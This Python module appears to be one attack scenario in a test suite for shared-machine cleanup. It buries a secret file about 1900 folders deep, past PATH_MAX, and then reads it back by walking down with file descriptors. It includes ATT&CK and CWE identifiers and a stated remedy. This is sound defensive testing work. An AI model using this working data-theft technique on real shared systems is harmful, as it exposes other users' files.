# SPDX-License-Identifier: MIT
"""deep-tree.py - work at the bottom of a well.

Goal: another student's work.
Means: 1900 folders, each inside the last, or as many as there may be, and a file in the innermost.
A cleaner that works with paths meets ENAMETOOLONG after 4096 bytes; one that calls itself per level
meets its recursion limit (Python's rmtree before 3.13). The thief walks down with one descriptor in
each hand.
"""

import contextlib
import os

from attack import DONE, attempting, denied, failed, loot

LEVELS, DEEP = 1900, 100
STEP = "one-level-further-down"


def down(folder, name):
    """Exchange a descriptor of a folder for one of the folder `name` inside it."""
    below = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=folder)
    os.close(folder)
    return below


def run(brief):
    attempting()
    try:
        here = os.open(f"/tmp/{brief.name}", os.O_RDONLY | os.O_DIRECTORY)
        try:
            while True:
                here = down(here, STEP)
        except FileNotFoundError:
            pass  # the bottom
        loot(os.read(os.open("work", os.O_RDONLY, dir_fd=here), 256))
    except OSError as why:
        return denied("open", why)
    return DONE


def dig(top, brief):
    """As deep as it goes. Where that is not all the way, the last folder makes room for a file."""
    os.mkdir(top, 0o700)
    here = above = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    for level in range(LEVELS):
        try:
            os.mkdir(STEP, 0o700, dir_fd=here)
            below = os.open(STEP, os.O_RDONLY | os.O_DIRECTORY, dir_fd=here)
        except OSError:
            if level < DEEP:
                raise
            with contextlib.suppress(OSError):
                os.rmdir(STEP, dir_fd=here)  # made, but too deep to be opened
            os.close(here)
            os.rmdir(STEP, dir_fd=above)
            here = above
            break
        if above != here:
            os.close(above)
        above, here = here, below
    fd = os.open("work", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=here)
    os.write(fd, brief.secret.encode())


def victim(brief):
    for folder in "/tmp", ".":  # where /tmp is out of reach, the student's own folder
        try:
            dig(f"{folder}/{brief.name}", brief)
            return DONE
        except OSError as error:
            why = error
    return failed("mkdir", why)


ATTACK = {
    "effect": "the next student reads the last one's file",
    "means": "a file 1900 folders deep, or as many as there may be, beyond PATH_MAX",
    "oracle": "secret:victim",
    "scene": "after-victim",
    "id": "TMPS-05",
    "attack_id": "T1005, CWE-459, CWE-674",
    "remedy": "a cleaner that walks by descriptors, without recursion, and verifies",
    "run": run,
    "victim": victim,
}
